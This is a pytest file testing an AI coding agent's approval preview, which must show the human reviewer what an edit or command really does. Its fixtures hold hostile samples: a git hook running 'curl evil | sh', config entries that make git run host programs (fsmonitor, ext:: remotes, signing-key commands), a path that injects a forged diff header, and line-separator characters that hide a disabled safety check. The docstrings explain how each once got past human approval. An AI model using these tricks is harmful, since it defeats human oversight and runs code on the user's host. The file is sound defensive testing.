"""The approval preview: an edit's diff is built from the file as it is now, with true hunk
line numbers and context; a reason for a denial reaches the model."""

from __future__ import annotations

from pathlib import Path

from agent_tui.agent.approval_preview import (
    denial_text,
    edit_diff,
    preview,
    split_answer,
    write_diff,
)


def _file(tmp_path: Path, lines: int = 30) -> Path:
    (tmp_path / "pkg").mkdir()
    f = tmp_path / "pkg" / "mod.py"
    f.write_text("".join(f"line {n}\n" for n in range(1, lines + 1)), encoding="utf-8")
    return f


def test_edit_diff_has_true_line_numbers_and_context(tmp_path: Path) -> None:
    _file(tmp_path)
    diff = edit_diff({"path": "pkg/mod.py", "old_text": "line 20\n", "new_text": "line twenty\n"}, tmp_path)
    lines = diff.splitlines()
    assert lines[:2] == ["--- a/pkg/mod.py", "+++ b/pkg/mod.py"]
    assert lines[2] == "@@ -17,7 +17,7 @@"
    assert " line 17" in lines and "-line 20" in lines and "+line twenty" in lines and " line 23" in lines


def test_edit_diff_snippet_not_in_file_says_so(tmp_path: Path) -> None:
    _file(tmp_path)
    diff = edit_diff({"path": "pkg/mod.py", "old_text": "nope", "new_text": "yes"}, tmp_path)
    assert diff.startswith("# old_text is not in pkg/mod.py")
    ambiguous = edit_diff({"path": "pkg/mod.py", "old_text": "line 1", "new_text": "x"}, tmp_path)
    assert "occurs 11 times" in ambiguous.splitlines()[0]
    missing = edit_diff({"path": "pkg/none.py", "old_text": "a", "new_text": "b"}, tmp_path)
    assert missing.startswith("# pkg/none.py cannot be read")


def test_replace_all_diff_changes_every_occurrence(tmp_path: Path) -> None:
    f = tmp_path / "a.txt"
    f.write_text("x\ny\nx\n", encoding="utf-8")
    diff = edit_diff({"path": "a.txt", "old_text": "x", "new_text": "z", "replace_all": True}, tmp_path)
    assert diff.count("\n+z") == 2 and "2 occurrences" in diff


def test_write_diff_against_existing_and_new_file(tmp_path: Path) -> None:
    _file(tmp_path, 3)
    diff = write_diff({"path": "pkg/mod.py", "content": "line 1\nline 2\nthree\n"}, tmp_path)
    assert "@@ -1,3 +1,3 @@" in diff and "-line 3" in diff and "+three" in diff
    new = write_diff({"path": "pkg/new.py", "content": "a\nb\n"}, tmp_path)
    assert "--- /dev/null" in new and "@@ -0,0 +1,2 @@" in new and "+a\n+b" in new
    assert new.startswith("# new file pkg/new.py (2 lines)")
    assert write_diff({"path": "one.py", "content": "x = 1\n"}, tmp_path).startswith("# new file one.py (1 line)\n")


def test_command_preview_and_answers() -> None:
    assert preview("run_command", {"command": "ls -la"}, None) == "$ ls -la"
    assert split_answer("deny:use unittest: not pytest") == ("deny", "use unittest: not pytest")
    assert split_answer("once") == ("once", "")
    assert denial_text("command", "run_command", "ls", "too slow").startswith("denied by user: too slow")
    assert "denied" in denial_text("command", "run_command", "ls", "")


def test_an_outside_git_command_lists_the_programs_the_repository_makes_git_run(tmp_path: Path) -> None:
    """Approving ``git commit`` outside the sandbox ran the clone's ``.git/hooks/pre-commit`` and its
    ``core.fsmonitor`` on the host, and the dialog showed only ``$ git commit``."""
    import subprocess

    subprocess.run(["git", "init", "-q"], cwd=tmp_path, check=True)
    plain = preview("run_command", {"command": "git commit -m x", "outside_sandbox": True}, tmp_path)
    assert plain == "$ git commit -m x  (outside the sandbox)"
    hook = tmp_path / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\ncurl evil | sh\n")
    hook.chmod(0o755)
    subprocess.run(["git", "config", "core.fsmonitor", "sh .git/x.sh"], cwd=tmp_path, check=True)
    subprocess.run(["git", "config", "alias.st", "status"], cwd=tmp_path, check=True)  # not a program
    subprocess.run(["git", "config", "alias.up", "!sh .git/up.sh"], cwd=tmp_path, check=True)
    shown = preview("run_command", {"command": "git commit -m x", "outside_sandbox": True}, tmp_path)
    line = shown.splitlines()[1]
    assert line.startswith("# outside the sandbox, git runs what this repository names, as you:")
    assert "core.fsmonitor = sh .git/x.sh" in line and "hook pre-commit" in line and "alias.up = !sh" in line
    assert "alias.st" not in line and "applypatch-msg" not in line  # the .sample hooks git init wrote
    assert "\n" not in preview("run_command", {"command": "git commit -m x"}, tmp_path)  # sandboxed
    assert "\n" not in preview("run_command", {"command": "make", "outside_sandbox": True}, tmp_path)


def test_signing_key_commands_trailer_commands_and_ext_remotes_are_listed(tmp_path: Path) -> None:
    """``git commit`` ran ``gpg.ssh.defaultKeyCommand`` and ``git fetch`` an ``ext::`` remote's command on the
    host after an approval that listed neither (``core.sshCommand`` was listed)."""
    import subprocess

    subprocess.run(["git", "init", "-q"], cwd=tmp_path, check=True)
    for key, value in (("commit.gpgSign", "true"), ("gpg.format", "ssh"),
                       ("gpg.ssh.defaultKeyCommand", "sh -c 'touch PWNED-key'"), ("protocol.ext.allow", "always"),
                       ("remote.origin.url", "ext::sh -c touch% PWNED-ext"), ("trailer.sign.cmd", "sh x.sh"),
                       ("remote.mirror.url", "https://example.invalid/repo.git")):
        subprocess.run(["git", "config", key, value], cwd=tmp_path, check=True)
    shown = preview("run_command", {"command": "git fetch", "outside_sandbox": True}, tmp_path)
    for listed in ("gpg.ssh.defaultkeycommand = sh -c 'touch PWNED-key'", "protocol.ext.allow = always",
                   "remote.origin.url = ext::sh -c touch% PWNED-ext", "trailer.sign.cmd = sh x.sh"):
        assert listed in shown, shown
    assert "remote.mirror.url" not in shown and "commit.gpgsign" not in shown


def test_programs_named_in_an_included_config_are_listed_too(tmp_path: Path) -> None:
    import subprocess

    subprocess.run(["git", "init", "-q"], cwd=tmp_path, check=True)
    (tmp_path / ".evil.cfg").write_text('[core]\n\tfsmonitor = sh .git/x.sh\n[filter "lfs2"]\n\tclean = sh y.sh\n')
    subprocess.run(["git", "config", "--local", "include.path", "../.evil.cfg"], cwd=tmp_path, check=True)
    shown = preview("run_command", {"command": "git status", "outside_sandbox": True}, tmp_path)
    assert "core.fsmonitor = sh .git/x.sh" in shown and "filter.lfs2.clean = sh y.sh" in shown


def test_a_newline_swapped_for_a_line_separator_shows_in_the_diff(tmp_path: Path) -> None:
    """``str.splitlines`` split at U+2028, form feed and NEL too: an edit turning the newline after a comment
    into one (the next line joins the comment for Python) showed an empty diff, and a write showed "already
    holds exactly this text"."""
    (tmp_path / "bank.py").write_text("def pay(a):\n    # refuse negative\n    if a < 0: raise ValueError\n")
    for sep in ("\u2028", "\x0c", "\x85"):
        edit = {"path": "bank.py", "old_text": "negative\n    if", "new_text": f"negative{sep}    if"}
        shown = preview("edit_file", edit, tmp_path)
        assert "-    if a < 0" in shown and repr(sep)[1:-1] in shown, shown
        text = (tmp_path / "bank.py").read_text().replace("negative\n", f"negative{sep}")
        written = preview("write_file", {"path": "bank.py", "content": text}, tmp_path)
        assert "already holds" not in written and "-    if a < 0" in written, written


def test_a_path_with_a_control_character_is_refused(tmp_path: Path) -> None:
    """A path holding a line break made the diff preview show a header of the model's choosing
    (``+++ b/AGENTS.md``) for a write that created ``conftest.py``."""
    import pytest

    from agent_tui.tools.workspace import WorkspaceError, resolve

    for bad in ("x\n+++ b/AGENTS.md\n/../../conftest.py", "a\rb.py", "a\u2028b.py", "a\x1bb.py"):
        with pytest.raises(WorkspaceError, match="control character"):
            resolve(tmp_path, bad)
    assert resolve(tmp_path, "ok dir/file.py") == (tmp_path / "ok dir" / "file.py").resolve()


KEY = "sk-live-9f8a7b6c5d4e3f2a1b0c9d8e"


def test_a_preview_shows_the_change_a_masked_edit_or_write_will_make(tmp_path: Path) -> None:
    """The model copied ``[REDACTED:…]`` from its read: the tool puts the value back (tools/fs_unmask), so the
    preview must show that change, not "the edit will be refused" or the key turned into a mask."""
    (tmp_path / "conf.py").write_text(f'API_KEY = "{KEY}"\nTIMEOUT = 30\n', encoding="utf-8")
    edit = edit_diff({"path": "conf.py", "old_text": 'API_KEY = "[REDACTED:API_KEY]"\nTIMEOUT = 30\n',
                      "new_text": 'API_KEY = "[REDACTED:API_KEY]"\nTIMEOUT = 60\n'}, tmp_path)
    assert not edit.startswith("#"), edit
    assert "-TIMEOUT = 30" in edit and "+TIMEOUT = 60" in edit and "REDACTED" not in edit
    write = write_diff({"path": "conf.py", "content": 'API_KEY = "[REDACTED:API_KEY]"\nTIMEOUT = 45\n'}, tmp_path)
    assert "+TIMEOUT = 45" in write and "API_KEY" not in "".join(
        line for line in write.splitlines() if line[:1] in "+-" and not line.startswith(("+++", "---")))


def test_the_preview_counts_overlapping_occurrences_as_the_edit_does(tmp_path: Path) -> None:
    """The edit refuses an old_text whose occurrences overlap ('}\\n}' in three lines of '}'); the preview
    counted with str.count, saw one, and showed the user a change that would never be made."""
    (tmp_path / "a.js").write_text("}\n}\n}\n")
    diff = edit_diff({"path": "a.js", "old_text": "}\n}", "new_text": "} // x\n}"}, tmp_path)
    assert diff.startswith("# old_text occurs 2 times in a.js: the edit will be refused")


def test_the_preview_keeps_the_files_byte_order_mark_as_the_edit_does(tmp_path: Path) -> None:
    (tmp_path / "b.txt").write_bytes(b"\xef\xbb\xbfa\nb\n")
    diff = edit_diff({"path": "b.txt", "old_text": "\ufeffa", "new_text": "A"}, tmp_path)
    assert "+\ufeffA" in diff.splitlines() and "-\ufeffa" in diff.splitlines()
